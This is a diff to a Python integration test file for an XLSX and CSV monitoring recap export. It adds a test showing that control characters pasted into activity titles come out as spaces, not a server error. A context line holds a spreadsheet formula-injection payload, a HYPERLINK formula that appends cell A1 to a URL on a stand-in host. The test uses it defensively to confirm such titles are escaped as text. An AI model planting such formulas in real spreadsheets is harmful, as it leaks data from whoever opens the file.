@@ -7,6 +7,7 @@ import io
 from openpyxl import load_workbook
 
 from engine import services
+from engine.db import Instance
 from tests.integration.test_monitoring_versions import signed_in
 
 TITLE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Rekap")'
@@ -31,3 +32,22 @@ def test_a_title_typed_like_a_formula_is_text_in_the_xlsx_and_the_csv(rt):
     assert line[rows[0].index("Judul kegiatan")] == "'" + TITLE
     assert line[rows[0].index("Periode")] == "'" + PERIOD
     assert line[rows[0].index("Dimulai oleh")] == "aptika.implementasi"  # other text as it is
+
+
+def test_a_control_character_in_a_title_does_not_break_the_xlsx(rt):
+    """A title holding a control character (Word's line break \\x0b, pasted) made openpyxl refuse the
+    cell, and the whole office's XLSX recap was a 500. Such a character is a space in the sheet."""
+    instance_id = services.start(rt, "monev_kegiatan_bidang", "aptika", "Rapat", "aptika.implementasi")
+    with rt.uow() as session:  # as stored before the start refused such titles
+        row = session.get(Instance, instance_id)
+        row.title, row.period = "Rapat\x0bkoordinasi\x1b", "Triwulan\x07I"
+        session.commit()
+    client = signed_in(rt, "kadis")
+
+    response = client.get("/monitoring/rekap.xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.data))["Kegiatan"]
+    heads = [c.value for c in sheet[1]]
+    [row] = [r for r in sheet.iter_rows(min_row=2) if r[heads.index("ID kegiatan")].value == instance_id]
+    assert row[heads.index("Judul kegiatan")].value == "Rapat koordinasi "
+    assert row[heads.index("Periode")].value == "Triwulan I"
